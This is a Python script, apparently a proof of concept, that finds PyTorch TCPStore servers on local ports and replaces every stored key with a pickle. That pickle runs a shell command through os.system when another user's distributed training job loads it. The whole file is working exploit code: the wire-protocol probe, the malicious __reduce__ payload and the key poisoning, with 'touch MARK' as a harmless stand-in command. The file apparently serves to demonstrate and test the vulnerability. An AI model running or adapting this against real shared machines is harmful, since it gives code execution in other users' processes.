"""What another user of the machine can try: `python attack.py MARK PORT ...`.

Where a store answers, every key is replaced by a pickle that would run `touch MARK`; the output
says which keys of which port that were.
"""

import encodings.idna  # noqa: F401  (as all imports: before the interpreter is out of reach)
import json
import os
import pickle
import socket
import struct
import sys
from datetime import timedelta

from torch.distributed import TCPStore

NOBODY = 65534


class Evil:
    """Runs a command when it is unpickled."""

    def __init__(self, mark: str) -> None:
        self.mark = mark

    def __reduce__(self):
        return os.system, (f"touch {self.mark}",)


def is_store(port: int) -> bool:
    """Whether a TCPStore answers: its own client would wait for ever for anything else."""
    validate, ping, magic, nonce = 0, 13, 0x3C85F7CE, 4711
    try:
        with socket.create_connection(("127.0.0.1", port), 2) as connection:
            connection.settimeout(2)
            connection.sendall(struct.pack("=BIBI", validate, magic, ping, nonce))
            return connection.recv(4) == struct.pack("=I", nonce)
    except OSError:
        return False


def attack(port: int, poison: bytes) -> list[str]:
    """The keys that were replaced."""
    patience = timedelta(seconds=5)
    store = TCPStore("127.0.0.1", port, is_master=False, timeout=patience, wait_for_workers=False)
    keys: list[str] = store.list_keys()
    for key in [*keys, "default_pg/0//cpu//0/0"]:
        store.set(key, poison)
    return keys


def main() -> None:
    if os.getuid() == 0:
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    poison = pickle.dumps(Evil(sys.argv[1]))
    ports = filter(is_store, map(int, sys.argv[2:]))
    print(json.dumps({port: attack(port, poison) for port in ports}))


if __name__ == "__main__":
    main()
